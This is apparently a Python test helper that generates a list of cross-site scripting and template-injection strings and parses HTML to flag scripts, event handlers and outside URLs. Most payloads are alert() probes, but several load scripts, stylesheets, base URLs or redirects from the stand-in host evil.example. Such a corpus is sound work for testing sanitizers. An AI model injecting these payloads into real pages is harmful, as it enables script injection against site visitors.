"""Two hundred strings that would run or load something if a page took them for markup; and a reader of pages."""

from html.parser import HTMLParser
from itertools import product

HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "iframe src=x", "style")
WHOLE = (
    "<script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "<ScRiPt src=//evil.example/{n}></sCrIpT>",
    '"><script>alert({n})</script>',
    "'><img src=x onerror=alert({n})>",
    "javascript:alert({n})",
    "<a href=javascript:alert({n})>x</a>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "</textarea><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "<!--><script>alert({n})</script-->",
    "<![CDATA[<script>alert({n})</script>]]>",
    "{{{{ 7*{n} }}}}",
    "{{% for x in range({n}) %}}",
    "${{alert({n})}}",
    "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
)


def list_attacks(count: int = 200) -> list[str]:
    """So many different strings, each with a number of its own."""
    shapes = [f"<{tag} {handler}=alert({{n}})>" for tag, handler in product(TAGS, HANDLERS)]
    shapes += [f'" {handler}=alert({{n}}) x="' for handler in HANDLERS]
    shapes += [f"' {handler}='alert({{n}})" for handler in HANDLERS]
    everything = [*WHOLE, *shapes]
    return [everything[n % len(everything)].format(n=n + 1000) for n in range(count)]


class PageReader(HTMLParser):
    """The words of a page, and whatever in it would run, load from elsewhere or lead away."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.faults: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        self.words += [value for value in told.values() if value]
        self._script = tag == "script"
        if tag in ("base", "object", "embed", "video", "audio", "style") or (tag == "body" and set(told) - {"class"}):
            self.faults.append(f"<{tag}>")
        if tag == "script" and not (told.get("src") or "").startswith("/static/"):
            self.faults.append("<script>")
        if tag == "meta" and "http-equiv" in told:
            self.faults.append("<meta http-equiv>")
        for name, value in told.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src", "srcset", "action") and not (value or "").startswith(("/", "#")):
                self.faults.append(f"{tag} {name}={value}")
            if name in ("href", "src", "srcset", "action") and (value or "").startswith("//"):
                self.faults.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)
        if self._script and data.strip():
            self.faults.append(f"script: {data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def read_page(html: str) -> tuple[str, list[str]]:
    """The words of a page on one line, its attributes included; and its faults."""
    reader = PageReader()
    reader.feed(html)
    reader.close()
    return " ".join(" ".join(reader.words).split()), reader.faults
